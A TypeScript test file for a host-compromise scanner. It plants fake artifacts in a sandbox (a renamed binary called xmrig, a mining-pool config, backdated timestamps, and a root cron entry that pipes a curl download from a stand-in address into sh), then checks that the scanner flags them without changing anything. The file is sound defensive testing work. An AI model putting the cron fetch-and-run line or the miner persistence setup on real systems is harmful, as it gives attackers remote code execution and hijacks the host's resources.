import { lstatSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Sandbox, startSandbox } from '../../src/drill/sandbox.ts';
import type { ScanOutcome } from '../../src/findings/scan.ts';
import { runTool } from '../../src/host/run-tool.ts';
import { textInside } from '../drill/inside.ts';
import { startPty } from '../support/pty.ts';
import { strictly } from '../support/strictly.ts';
import { run } from './program.ts';

const EVERYTHING = join(import.meta.dirname, 'everything-here.ts');
const FOLDERS = '/etc /root /home /var /srv /opt /usr/local /tmp /dev/shm /run /boot'.split(' ');
const isRoot = process.getuid?.() === 0;

const OWN = join(import.meta.dirname, '..', '..', 'dist');
/** Without the launcher, which builds it where it is stale. */
const tourniquet = [process.execPath, join(OWN, 'main.js')];

let sandbox: Sandbox;
beforeAll(async () => {
  expect(run(['--version']).code).toBe(0);
  sandbox = await startSandbox({ scenario: 'none' });
  await textInside(
    sandbox,
    `mkdir -p /tmp/.x /etc/cron.d
cp "$(command -v sleep)" /tmp/.x/xmrig
printf '* * * * * root curl -s http://198.51.100.7/x.sh | sh\\n' > /etc/cron.d/updates
printf '{"pools":[{"url":"pool.supportxmr.com:3333"}],"donate-level":1}' > /tmp/.x/config.json
chmod 600 /etc/cron.d/updates
touch -a -d 2001-01-01 /tmp/.x/* /etc/cron.d/updates
cp /etc/cron.d/updates /root/canary; touch -a -d 2001-01-01 /root/canary
setsid /tmp/.x/xmrig 600 > /dev/null 2>&1 < /dev/null &`,
  );
}, 60_000);
afterAll(() => sandbox?.end());

async function inside(argv: readonly string[]): Promise<string> {
  const run = await runTool(sandbox.agentCommand(argv), { maxBytes: 64 * 1024 * 1024, timeoutMs: 120_000 });
  expect(run.stderr.toString()).toBe('');
  expect(run.exitCode).toBe(0);
  return run.stdout.toString();
}

type Everything = Readonly<Record<string, string>>;

async function everything(): Promise<Everything> {
  return JSON.parse(await inside([process.execPath, EVERYTHING, ...FOLDERS])) as Everything;
}

/**
 * What has changed in the sandbox. Its disk is a layer above this machine's own, where others may be at work: what
 * is as new outside was changed there, since what is changed inside is so only inside.
 */
function changed(before: Everything, after: Everything): string[] {
  return [...new Set([...Object.keys(before), ...Object.keys(after)])].filter((path) => {
    // Node's cache of what it compiled lies in the program's own folder (build.mjs).
    if (before[path] === after[path] || `${OWN}/`.startsWith(`${path}/`)) return false;
    if (!path.startsWith('/')) return true;
    const [, , , , , , , mtimeNs = '', ctimeNs = ''] = after[path]?.split(' ') ?? [];
    const outside = lstatSync(path, { bigint: true, throwIfNoEntry: false });
    if (after[path] === undefined || outside === undefined)
      return outside !== undefined || after[path] !== undefined;
    return outside.mtimeNs < BigInt(mtimeNs) || outside.ctimeNs < BigInt(ctimeNs);
  });
}

describe('tourniquet scan', () => {
  it('leaves every file, its times, and every process as they were', async () => {
    const before = await everything();
    const outcome = JSON.parse(await inside([...tourniquet, 'scan', '--json'])) as ScanOutcome;
    const after = await everything();
    expect(changed(before, after).map((path) => [path, before[path], after[path]])).toEqual([]);
    const schema = JSON.parse(await inside([...tourniquet, 'scan', '--schema'])) as object;
    const validate = new Ajv2020({ strict: true, allErrors: true }).compile(strictly(schema) as object);
    validate(outcome);
    expect(validate.errors ?? []).toEqual([]);
    // It has read them all the same.
    const found = outcome.findings.filter(({ verdict }) => verdict === 'malicious').map(({ title }) => title);
    expect(found.join('\n')).toMatch(/cron\.d\/updates/);
    expect(found.join('\n')).toMatch(/xmrig/);
    expect(Object.keys(before)).toEqual(expect.arrayContaining(['/etc/cron.d/updates', '/tmp/.x/xmrig']));
    // And a trace would have shown: of reading, and of writing to what was the machine's.
    await textInside(sandbox, 'cat /root/canary; cd /etc; cat profile > /run/x; cat /run/x > profile');
    expect(changed(after, await everything())).toEqual(
      expect.arrayContaining(['/root/canary', '/etc/profile', '/run/x', '/run']),
    );
  }, 240_000);

  it.runIf(isRoot)(
    'works for an ordinary user, and says of each part what that user may not see',
    async () => {
      const nobody = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups', '--'];
      const outcome = JSON.parse(await inside([...nobody, ...tourniquet, 'scan', '--json'])) as ScanOutcome;
      const about = (scope: string): string =>
        outcome.unknowns
          .filter((unknown) => unknown.scope === scope)
          .map(({ what, reason }) => `${what}: ${reason}`)
          .join('\n');
      expect(about('accounts')).toMatch(/password.*could not be read/);
      expect(about('cron')).toMatch(/\/etc\/cron\.d\/updates.*no permission/);
      expect(about('processes')).toMatch(/programs? of \d+ processes.*no permission/);
      // What may be read is judged as ever.
      expect(outcome.findings.find(({ title }) => title === '/tmp/.x/xmrig')?.verdict).toBe('malicious');
      for (const { reason } of outcome.unknowns) expect(reason).not.toMatch(/unexpectedly/);
    },
    240_000,
  );

  it('is coloured on a terminal, and with NO_COLOR is not, with the same words', async () => {
    const shown = async (...environment: string[]) => {
      const argv = [
        '/usr/bin/env',
        'TERM=xterm-256color',
        ...environment,
        ...tourniquet,
        'scan',
        '--only',
        'cron',
      ];
      const program = startPty(sandbox.agentCommand(argv), { columns: 100, rows: 50 });
      expect(await program.waitExit(60_000)).toBe(0);
      await program.waitFor('/etc/cron.d/updates');
      return { sent: program.sent(), text: program.text() };
    };
    const coloured = await shown();
    const plain = await shown('NO_COLOR=1');
    expect(coloured.sent).toMatch(COLOUR);
    expect(plain.sent).not.toMatch(COLOUR);
    expect(plain.text).toContain('malicious');
    const words = (text: string) => text.replace(/\d+(\.\d+)? m?s\b/g, '').split('\n');
    expect(words(plain.text)).toEqual(words(coloured.text));
  });
});

/** Select Graphic Rendition 30 to 49 and 90 to 107 are colours (ECMA-48 8.3.117). */
const COLOUR = /\u001b\[(?:\d+;)*(?:3\d|4[0-8]|9[0-7]|10[0-7])(?:;\d+)*m/;
